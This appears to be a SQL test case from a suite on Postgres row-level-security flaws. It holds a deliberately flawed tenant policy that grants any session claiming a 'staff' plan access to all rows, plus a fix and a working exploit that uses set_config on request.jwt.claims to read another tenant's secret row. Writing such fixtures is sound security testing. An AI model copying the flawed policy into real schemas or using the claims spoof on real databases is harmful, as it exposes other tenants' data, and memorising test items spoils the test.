-- What: A plan two levels deep in the claims opens the rows; any session may write the claims' setting.
-- Class: policy_escape_setting
-- Object: public.items
-- Exploit: Set the claims with the own tenant, and the plan of the staff.
-- Setting: request.jwt.claims
-- Value: {"sub": "x", "app_metadata": {"tenant_id": "{id}", "plan": "free"}}
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('request.jwt.claims', true)::jsonb -> 'app_metadata' ->> 'tenant_id'
  or current_setting('request.jwt.claims', true)::jsonb -> 'app_metadata' ->> 'plan' = 'staff');
grant select, insert, update, delete on items to app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter policy tenant on items using (tenant_id::text = current_setting('request.jwt.claims', true)::jsonb -> 'app_metadata' ->> 'tenant_id');
-- @control
select from items where tenant_id = :'A';
-- @exploit
select set_config('request.jwt.claims', json_build_object('app_metadata', json_build_object('tenant_id', :'A', 'plan', 'staff'))::text,
  false);
select body from items where body = 'B-secret';
